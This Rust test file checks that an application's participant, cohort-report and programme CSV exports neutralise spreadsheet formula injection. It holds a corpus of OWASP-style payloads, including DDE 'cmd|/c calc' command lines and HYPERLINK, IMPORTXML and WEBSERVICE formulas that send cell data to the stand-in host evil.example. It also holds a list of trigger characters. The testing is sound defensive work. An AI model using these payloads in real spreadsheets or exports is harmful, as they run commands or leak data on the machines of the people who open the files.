//! T-11: CSV export injection. A corpus of formula payloads goes in through the API and
//! the CSV import as names and cohort names; no cell of the participants, cohort report or
//! programme CSV starts with a character a spreadsheet would run. A property over 10,000
//! generated strings checks the neutraliser round-trips through a CSV reader with a
//! constant column count.

use axum::body::Body;
use axum::http::{Method, Request, StatusCode, header};
use pathways::auth::Role;
use pathways::reports::export::neutralise;
use serde_json::json;

use crate::common::{TestApp, TestClient};
use crate::imports::next_cohort;
use crate::residents::add_and_enrol;

/// The characters that make a spreadsheet treat a cell as a formula or a command.
const TRIGGERS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', ';', '|', '%'];

/// Formula and DDE payloads, as the OWASP CSV injection page and the security plan list them.
const CORPUS: [&str; 44] = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    ";=1",
    "=1+2\";=1+2",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+cmd|' /C notepad'!'B1'",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "%0A=1",
    "|calc",
    "=2*5",
    "=A1",
    "==1",
    "=+1",
    "+=1",
    "-=1",
    "@=1",
    "=SUM(A1:A9)",
    "=INDIRECT(\"A1\")",
    "=HYPERLINK(\"javascript:alert(1)\")",
    "=1,2",
    "=\"quoted\"",
    "-1",
    "+44 113 000",
    "@mention",
    "=Ä",
    "=сумма(1)",
    "=1\u{202E}",
    "=rtl\u{200F}",
    "; DROP",
    "|pipe",
    "%percent",
    "=\u{0301}x",
    "=CONCATENATE(A1,B1)",
];

/// Asserts no cell of `csv` (after its header) starts with a trigger character, and that
/// every row has the header's column count.
fn assert_no_live_cells(what: &str, csv: &str) -> usize {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let width = reader.headers().expect("a header row").len();
    for name in reader.headers().unwrap() {
        assert!(!name.starts_with(TRIGGERS), "{what}: header {name:?}");
    }
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: unreadable row: {e}"));
        assert_eq!(record.len(), width, "{what}: ragged row {record:?}");
        for cell in &record {
            assert!(
                !cell.starts_with(TRIGGERS),
                "{what}: live cell {cell:?} in {record:?}"
            );
        }
        rows += 1;
    }
    rows
}

async fn import_one(client: &TestClient, cohort: i32, name: &str, n: usize) -> StatusCode {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "given_name",
        "family_name",
        "date_of_birth",
        "postcode",
        "email",
        "phone",
    ])
    .unwrap();
    let dob = format!("19{:02}-01-{:02}", 50 + n % 40, 1 + n % 28);
    w.write_record([name, name, dob.as_str(), "LS9 7TF", "", ""])
        .unwrap();
    let body = String::from_utf8(w.into_inner().unwrap()).unwrap();
    let req = Request::builder()
        .method(Method::POST)
        .uri(format!("/api/v1/cohorts/{cohort}/import"))
        .header(header::CONTENT_TYPE, "text/csv")
        .body(Body::from(body))
        .unwrap();
    client.send(req, None).await.status
}

#[tokio::test]
async fn no_exported_cell_starts_with_a_formula_trigger() {
    let app = TestApp::new().await;
    let d = app.delivery("Learning Partnerships").await;
    let cohort = next_cohort(&app, &d, 1000).await;
    let (admin, _) = app.user(Role::Admin, "Learning Partnerships").await;
    let api = app.token_client(admin).await;

    let mut stored = 0;
    for (n, payload) in CORPUS.iter().enumerate() {
        // Through the API: a resident named with the payload, enrolled in the cohort.
        let dob = format!("19{:02}-02-{:02}", 50 + n % 40, 1 + n % 28);
        if add_and_enrol(&api, cohort, payload, payload, &dob)
            .await
            .is_some()
        {
            stored += 1;
        }
        // Through the CSV import.
        let status = import_one(&api, cohort, payload, n).await;
        assert!(!status.is_server_error(), "{payload:?}: import {status}");
        if status.is_success() {
            stored += 1;
        }
        // As a cohort name, which the report CSVs carry.
        let named = api
            .json(
                Method::PATCH,
                &format!("/api/v1/cohorts/{cohort}"),
                json!({"name": payload}),
            )
            .await;
        assert!(
            !named.status.is_server_error(),
            "{payload:?}: {}",
            named.status
        );
    }
    // Most payloads are ordinary printable text and must be stored (control characters are
    // refused at the boundary instead).
    assert!(stored >= 60, "only {stored} payloads were stored");

    let participants = api
        .get(&format!("/api/v1/cohorts/{cohort}/participants.csv"))
        .await;
    assert_eq!(participants.status, StatusCode::OK);
    let rows = assert_no_live_cells("participants.csv", &participants.text());
    assert!(rows >= stored, "{rows} rows for {stored} stored");
    let report = api
        .get(&format!("/api/v1/cohorts/{cohort}/report.csv"))
        .await;
    assert_no_live_cells("report.csv", &report.text());
    let programme = api.get("/api/v1/reports/programme.csv").await;
    assert_no_live_cells("programme.csv", &programme.text());
}

/// A small deterministic generator (xorshift), so the property needs no extra crate and
/// every run checks the same 10,000 strings.
struct Strings(u64);

impl Strings {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn string(&mut self) -> String {
        const ALPHABET: &[char] = &[
            '=', '+', '-', '@', '\t', '\r', '\n', '\0', ';', '|', '%', '"', ',', '\'', ' ', 'a',
            'Z', '1', 'é', 'ß', 'Ж', '中', '\u{202E}', '\u{0301}', '\u{feff}', '😀',
        ];
        let len = (self.next() % 24) as usize;
        (0..len)
            .map(|_| ALPHABET[(self.next() % ALPHABET.len() as u64) as usize])
            .collect()
    }
}

#[test]
fn neutralised_cells_read_back_as_written_with_a_constant_column_count() {
    let mut source = Strings(0x9E37_79B9_7F4A_7C15);
    let cases: Vec<[String; 3]> = (0..10_000)
        .map(|_| [source.string(), source.string(), source.string()])
        .collect();
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["a", "b", "c"]).unwrap();
    for case in &cases {
        w.write_record(case.iter().map(|s| neutralise(s))).unwrap();
    }
    let bytes = w.into_inner().unwrap();
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let mut read = 0;
    for (record, case) in reader.records().zip(&cases) {
        let record = record.unwrap();
        assert_eq!(record.len(), 3, "broken row for {case:?}");
        for (cell, original) in record.iter().zip(case) {
            let expected = if original.starts_with(TRIGGERS) {
                format!("'{original}")
            } else {
                original.clone()
            };
            assert_eq!(cell, expected);
            assert!(!cell.starts_with(TRIGGERS));
        }
        read += 1;
    }
    assert_eq!(read, 10_000);
}
